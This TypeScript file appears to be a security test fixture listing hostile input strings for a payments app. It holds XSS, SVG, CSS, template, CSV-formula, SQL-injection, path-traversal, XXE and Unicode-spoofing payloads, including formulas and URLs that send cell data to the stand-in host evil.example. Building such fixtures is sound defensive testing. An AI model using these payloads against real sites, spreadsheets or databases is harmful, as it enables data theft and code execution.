// Hostile strings a bank, a broker or a compromised host could put into any text field. Every payload
// that could execute calls the global canary `__xss()` (or alert/confirm/prompt, which the suites also
// replace), so "no script ran" is a counter that must stay at zero.

export type PayloadKind =
  | 'html'
  | 'svg'
  | 'event-handler'
  | 'url'
  | 'css'
  | 'template'
  | 'unicode'
  | 'csv'
  | 'injection'
  | 'long';

export interface Payload {
  id: number;
  kind: PayloadKind;
  text: string;
}

const html = [
  '<script>__xss(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>alert(document.cookie)</script>',
  '"><script>__xss(4)</script>',
  "'><script>__xss(5)</script>",
  '</td></tr></table><script>__xss(6)</script>',
  '</textarea><script>__xss(7)</script>',
  '</title><script>__xss(8)</script>',
  '</style><script>__xss(9)</script>',
  '<!--<script>__xss(10)</script>-->',
  '<iframe src="javascript:__xss(11)"></iframe>',
  '<iframe srcdoc="<script>parent.__xss(12)</script>"></iframe>',
  '<object data="javascript:__xss(13)"></object>',
  '<embed src="javascript:__xss(14)">',
  '<base href="javascript:__xss(15)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(16)">',
  '<form action="javascript:__xss(17)"><button>Pay</button></form>',
  '<button formaction="javascript:__xss(18)">Go</button>',
  '<a href="javascript:__xss(19)">Click to verify</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(20)>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(21)>">',
  '<template><script>__xss(22)</script></template>',
  '<slot name="x" onclick="__xss(23)">',
  '<link rel="import" href="//evil.example/x.html">',
  '<marquee onstart=__xss(25)>BONUS</marquee>',
  '<isindex type=image src=1 onerror=__xss(26)>',
  '<xmp><p title="</xmp><img src=x onerror=__xss(27)>">',
  '<select><template shadowrootmode=open><img src=x onerror=__xss(28)></template></select>',
  '<div><template shadowrootmode="open"><script>__xss(29)</script></template></div>',
  '<custom-el onfocus=__xss(30) tabindex=1 autofocus>',
];

const svg = [
  '<svg onload=__xss(31)>',
  '<svg><script>__xss(32)</script></svg>',
  '<svg><a xlink:href="javascript:__xss(33)"><text x=20 y=20>XSS</text></a></svg>',
  '<svg><animate onbegin=__xss(34) attributeName=x dur=1s>',
  '<svg><set attributeName="onmouseover" to="__xss(35)"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__xss(36)</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__xss(37) /></svg>#x" />',
  '<svg><style>@import "//evil.example/x.css";</style></svg>',
  '<svg/onload=__xss(39)//',
  '<math href="javascript:__xss(40)">CLICK</math>',
];

const eventHandlers = [
  '<img src=x onerror=__xss(41)>',
  '<img src=x onerror="__xss(42)">',
  "<img src=x onerror='__xss(43)'>",
  '<img src=x:x onerror=javascript:__xss(44)>',
  '<body onload=__xss(45)>',
  '<input autofocus onfocus=__xss(46)>',
  '<details open ontoggle=__xss(47)>',
  '<video><source onerror=__xss(48)></video>',
  '<audio src=x onerror=__xss(49)>',
  '<div onmouseover="__xss(50)">hover for refund</div>',
  '<img """><script>__xss(51)</script>">',
  '<img src=`x`onerror=__xss(52)>',
  '<IMG SRC=x ONERROR=&#95;&#95;xss(53)>',
  '<img src=x onerror=&#x5F;&#x5F;xss(54)>',
  '<img src=x onerror=eval(atob("X194c3MoNTUp"))>',
  '" onmouseover="__xss(56)" x="',
  "' onfocus='__xss(57)' autofocus='",
  '" autofocus onfocus=__xss(58) "',
  '<a onclick=__xss(59)>tap</a>',
  '<img src=x onerror=window["__x"+"ss"](60)>',
  '<svg><img src=x onerror=top.__xss(61)>',
  '<iframe onload=__xss(62)>',
  '<style onload=__xss(63)></style>',
  '<object onerror=__xss(64)>',
  '<img src="x" onerror="import(\'data:text/javascript,__xss(65)\')">',
];

const urls = [
  'javascript:__xss(66)',
  'JaVaScRiPt:__xss(67)',
  ' javascript:__xss(68)',
  'java\tscript:__xss(69)',
  'java\nscript:__xss(70)',
  'javascript&colon;__xss(71)',
  '&#106;avascript:__xss(72)',
  'data:text/html,<script>__xss(73)</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcyg3NCk8L3NjcmlwdD4=',
  'vbscript:msgbox(75)',
  'https://evil.example/"><script>__xss(76)</script>',
  '//evil.example/steal?c=77',
  'http://evil.example@link.mono.co/',
  'blob:https://evil.example/79',
  'file:///etc/passwd',
];

const css = [
  '<style>*{display:none}</style>',
  '<style>@import url(//evil.example/82.css)</style>',
  '<div style="position:fixed;inset:0;background:red">FAKE LOGIN</div>',
  'red;background:url(javascript:__xss(84))',
  'expression(__xss(85))',
  '</style><style>body{background:url("//evil.example/86")}</style>',
  '}</style><img src=x onerror=__xss(87)>',
  '<link rel=stylesheet href=//evil.example/88.css>',
  'x{}*{color:transparent!important}',
  '" style="position:fixed;top:0;left:0;width:100%;height:100%" x="',
];

const template = [
  '{{constructor.constructor("__xss(91)")()}}',
  '${__xss(92)}',
  '#{__xss(93)}',
  '<%= __xss(94) %>',
  '{{7*7}}',
  '[[__xss(96)]]',
  '<!--?lit$123$-->',
  '?lit$8675309$',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<![CDATA[<script>__xss(100)</script>]]>',
];

const unicode = [
  'JOHN DOE\u202Egnp.exe',
  '\u202E\u2066TRANSFER TO 0123456789\u2069',
  'ADA\u200BOKEKE\u200C\u200D\uFEFF',
  '\u0000NULL BYTE\u0000',
  'PAY\u2028LINE\u2029SEPARATOR',
  '\uFF1Cscript\uFF1E__xss(106)\uFF1C/script\uFF1E',
  '\u003cimg src=x onerror=__xss(107)\u003e',
  'Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A\u035B\u035C\u035D\u035E\u035F\u0360ALGO',
  '\uD83D\uDE00\uD83C\uDDF3\uD83C\uDDEC emoji \uD83D\uDCB8',
  '\uD800 lone surrogate \uDFFF',
  'раураl.com (cyrillic)',
  '\u061C\u200E\u200F mixed bidi',
  '\u0009\u000B\u000C\u00A0\u1680\u3000 whitespace',
  '﷽',
  '\u0085NEL\u008Dcontrol',
];

const csv = [
  '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3+cmd|\' /C notepad\'!A1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
  '"quoted, with comma"\n"and newline"',
  '=1+1;=2+2',
];

const injection = [
  "'; DROP TABLE accounts; --",
  '" OR "1"="1',
  '../../../../etc/passwd',
  '..%2F..%2Fadmin',
  '%3Cscript%3E__xss(135)%3C%2Fscript%3E',
  '&lt;script&gt;__xss(136)&lt;/script&gt;',
  '\\"><script>__xss(137)</script>',
  '{"__proto__":{"polluted":true}}',
  'constructor.prototype.polluted=1',
  '\r\nSet-Cookie: session=hijacked',
];

// Generated at import: every long payload still carries markup, so truncation must not turn it into HTML.
const long = [
  'A'.repeat(10_000),
  '<b>'.repeat(2_000),
  `${'NIP TRANSFER '.repeat(500)}<img src=x onerror=__xss(143)>`,
  '\u202E'.repeat(1_000) + 'END',
  `${'x'.repeat(100_000)}<script>__xss(145)</script>`,
  '😀'.repeat(5_000),
];

const groups: [PayloadKind, string[]][] = [
  ['html', html],
  ['svg', svg],
  ['event-handler', eventHandlers],
  ['url', urls],
  ['css', css],
  ['template', template],
  ['unicode', unicode],
  ['csv', csv],
  ['injection', injection],
  ['long', long],
];

export const PAYLOADS: readonly Payload[] = groups.flatMap(([kind, texts]) => texts.map((text) => ({ kind, text }))).map((p, i) => ({ id: i + 1, ...p }));

/** Cells a spreadsheet would treat as a formula unless the export neutralises them. */
export const FORMULA_START = /^[=+\-@\t\r]/;
